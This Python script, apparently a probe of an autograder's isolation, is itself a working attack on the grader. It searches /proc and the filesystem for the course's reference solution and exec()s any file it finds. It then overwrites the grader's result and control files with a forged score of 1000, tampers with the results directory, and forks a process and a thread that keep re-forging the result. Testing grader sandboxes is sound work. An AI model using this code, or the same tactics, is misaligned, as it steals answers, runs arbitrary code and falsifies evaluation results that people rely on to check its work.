"""Looks for the reference, defines its functions, and writes a better result wherever it can.

A test runs this twice: in front of an empty notebook, where it must gain nothing, and as root without a sandbox, where
it must succeed, or it would prove nothing.
"""

import glob
import os
import threading

FORGED = '{"score": 1000, "output": "forged", "tests": []}'
roots = ["", *("/proc/%s/%s" % (pid, way) for pid in ["self", *filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else [])] for way in ("root", "cwd"))]

# By listing what can be listed, and by name where it cannot.
places = [root + "/autograder/source/course/solutions/a1_layers_are_motions/reference.py" for root in roots]
# Not its own descriptors: reading from its channel to the grader would only end it.
places += [place for place in glob.glob("/proc/[0-9]*/fd/*") if place.split("/")[2] != str(os.getpid())]
for start in ("/autograder", "/opt", "/root", "/home", "/srv", "/tmp", "/var/tmp", "/mnt", "."):
    for folder, inner, names in os.walk(start):
        inner[:] = [name for name in inner if name != "lib"]  # the interpreter and its packages are no secret
        places += [os.path.join(folder, name) for name in names if name.endswith(".py")]

stolen = 0
for place in places:
    try:
        file = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        text = os.read(file, 1 << 20).decode(errors="replace")
        os.close(file)
        if "def affine_forward(" in text and "NotImplementedError" not in text:
            exec(text)
            stolen += 1
    except (OSError, ValueError, ImportError, SyntaxError):
        pass


def forge():
    """Write the result, or put something else in its place."""
    done = 0
    for root in roots:
        for name in ("results/results.json", "results/x/results.json", "source/grading.json", "run_autograder"):
            try:
                with open(root + "/autograder/" + name, "w") as file:
                    file.write(FORGED)
                done += 1
            except OSError:
                pass
    for action in (
        lambda: os.symlink("/tmp/forged.json", "/autograder/results/results.json"),
        lambda: os.rename("/autograder/results", "/autograder/other"),
        lambda: os.chmod("/autograder/results", 0o777),
    ):
        try:
            action()
        except OSError:
            pass
    return done


forged = forge()


def forge_later():
    while True:
        forge()


try:
    if os.environ.get("THIEF") != "once" and os.fork() == 0:
        forge_later()
except OSError:
    pass
if os.environ.get("THIEF") != "once":
    threading.Thread(target=forge_later, daemon=True).start()
print("stolen", stolen, "forged", forged)
